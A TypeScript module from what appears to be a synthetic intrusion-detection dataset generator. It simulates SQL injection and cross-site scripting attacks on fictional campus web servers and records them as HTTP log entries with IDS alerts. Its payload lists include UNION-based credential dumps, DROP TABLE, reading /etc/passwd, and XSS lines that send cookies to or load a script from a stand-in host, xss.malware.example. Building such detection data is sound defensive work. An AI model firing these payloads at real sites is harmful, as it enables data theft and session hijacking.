import type {EveAlert} from "../formats/suricata.js";
import {http} from "../observe/exchanges.js";
import {observersOf} from "../observe/observers.js";
import type {AttackType} from "../record.js";
import {type Attack, type ScenarioContext, scaled} from "../scenario.js";
import {signatures} from "../signatures.js";
import {servers} from "../world.js";

const injections = [
  "/catalog?id=311%27%20OR%20%271%27%3D%271",
  "/catalog?id=-1%20UNION%20SELECT%201,username,password%20FROM%20users--%20-",
  "/catalog?id=311%20AND%20SLEEP(5)--%20-",
  "/library/search?q=%27%3B%20DROP%20TABLE%20loans%3B--",
  "/catalog?id=311)%20UNION%20ALL%20SELECT%20NULL,CONCAT(0x71,user(),0x71)%23",
  "/catalog?id=1%20AND%20LOAD_FILE(%27/etc/passwd%27)",
  "/events?month=3%20AND%201=2%20UNION%20SELECT%20table_name%20FROM%20information_schema.tables"
];
const scripts = [
  "/library/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
  "/library/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(document.cookie)%3E",
  "/guestbook?name=%3Csvg/onload=fetch(%27//xss.malware.example/%27%2Bdocument.cookie)%3E",
  "/events?month=javascript:alert(1)",
  "/guestbook?name=%3Cscript%20src=//xss.malware.example/x.js%3E%3C/script%3E"
];
const sqlmap = "sqlmap/1.8.11#stable (https://sqlmap.org)";
const browser = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";

/** A tool tries the library catalogue's parameters until some answer is larger than it should be. */
export const sqlInjection: Attack = {
  name: "sql-injection",
  title: "SQL injection against the catalogue",
  description:
    "A tool writes database commands into the fields of the library catalogue, to read what it should not see.",
  attack_type: "SQL Injection",
  hours: 1.5,
  attackers: world => [world.crew.webAttacker],
  victims: () => [servers.www, servers.researchWeb],
  run(context) {
    const tool = {agent: sqlmap, alerts: [signatures.sqlmap, signatures.union, signatures.loadFile]};
    requests(context, "SQL Injection", scaled(context, 360, 60), injections, tool);
  }
};

/** Script tags in every field that is shown again. */
export const crossSiteScripting: Attack = {
  name: "cross-site-scripting",
  title: "Cross-site scripting attempts",
  description:
    "Scripts are put into the search and guest-book fields of a web site, to run in the browser of whoever looks at them.",
  attack_type: "XSS",
  hours: 1,
  attackers: world => [world.crew.webAttacker],
  victims: () => [servers.www, servers.researchWeb],
  run(context) {
    requests(context, "XSS", scaled(context, 150, 40), scripts, {agent: browser, alerts: [signatures.xss]});
  }
};

function requests(
  context: ScenarioContext,
  attack_type: AttackType,
  count: number,
  urls: readonly string[],
  tool: {agent: string; alerts: readonly EveAlert[]}
): void {
  const {random, from, to, world} = context;
  const {border} = observersOf(context, attack_type);
  for (let n = 0; n < count; ++n) {
    const time = from + ((n + random.uniform()) / count) * (to - from);
    const research = random.chance(0.15);
    const host = research ? "data.campus.example" : "www.campus.example";
    const pair = {time, client: world.crew.webAttacker, server: research ? servers.researchWeb : servers.www};
    const url = `${random.pick(urls)}&r=${random.integer(1, 9999)}`;
    const status = random.pick([200, 200, 403, 500, 500, 404]);
    const alert = random.chance(0.45) ? {alert: random.pick(tool.alerts)} : {};
    http(border, random, pair, {host, url, status, agent: tool.agent, ...alert});
  }
}
